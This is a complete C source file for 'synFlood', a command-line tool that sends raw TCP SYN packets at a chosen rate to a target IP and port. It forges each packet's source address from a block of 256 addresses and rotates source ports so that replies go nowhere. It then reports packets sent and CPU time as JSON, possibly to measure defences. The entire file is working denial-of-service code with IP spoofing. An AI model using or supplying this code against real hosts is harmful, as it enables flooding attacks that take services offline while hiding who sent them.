/*
 * First packets of TCP connections at a given rate: synFlood SOURCE IP PORT PER_SECOND MS. Each comes from another port, and from
 * one of 256 addresses beginning with SOURCE. Prints how many were sent and the processor time, in microseconds; whoever answers
 * answers to nobody.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>

enum { AT_ONCE = 50, SOURCES = 256 };

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
} __attribute__((packed));

static double now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

static uint32_t add(const void *from, int bytes) {
  const uint8_t *byte = from;
  uint32_t sum = 0;
  for (int i = 0; i < bytes; i += 2) sum += byte[i] << 8 | byte[i + 1];
  return sum;
}

static void seal(struct packet *p) {
  struct {
    uint32_t source, destination;
    uint8_t zero, protocol;
    uint16_t length;
  } pseudo = {p->ip.saddr, p->ip.daddr, 0, IPPROTO_TCP, htons(sizeof p->tcp)};
  p->tcp.check = 0;
  uint32_t sum = add(&pseudo, sizeof pseudo) + add(&p->tcp, sizeof p->tcp);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  p->tcp.check = htons(~sum);
}

int main(int argc, char **argv) {
  if (argc != 6) return fprintf(stderr, "usage: synFlood SOURCE IP PORT PER_SECOND MS\n"), 2;
  uint32_t source = ntohl(inet_addr(argv[1]));
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[2])};
  double per_ms = atof(argv[4]) / 1000, ms = atof(argv[5]);
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return perror("socket"), 1;
  struct packet p = {
      .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof p), .daddr = to.sin_addr.s_addr},
      .tcp = {.dest = htons(atoi(argv[3])), .doff = 5, .syn = 1, .window = htons(1024)},
  };
  long sent = 0, tried = 0;
  double start = now_ms(), at;
  while ((at = now_ms() - start) < ms) {
    if (tried >= at * per_ms) {
      nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
      continue;
    }
    for (int i = 0; i < AT_ONCE; i++, tried++) {
      p.ip.saddr = htonl(source + tried % SOURCES);
      p.tcp.source = htons(1024 + tried / SOURCES % 60000);
      p.tcp.seq = htonl(tried);
      seal(&p);
      if (sendto(raw, &p, sizeof p, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
    }
  }
  struct rusage used;
  getrusage(RUSAGE_SELF, &used);
  double cpu = (used.ru_utime.tv_sec + used.ru_stime.tv_sec) * 1e6 + used.ru_utime.tv_usec + used.ru_stime.tv_usec;
  printf("{\"sent\": %ld, \"ms\": %.1f, \"cpu\": %.0f}\n", sent, now_ms() - start, cpu);
  return 0;
}
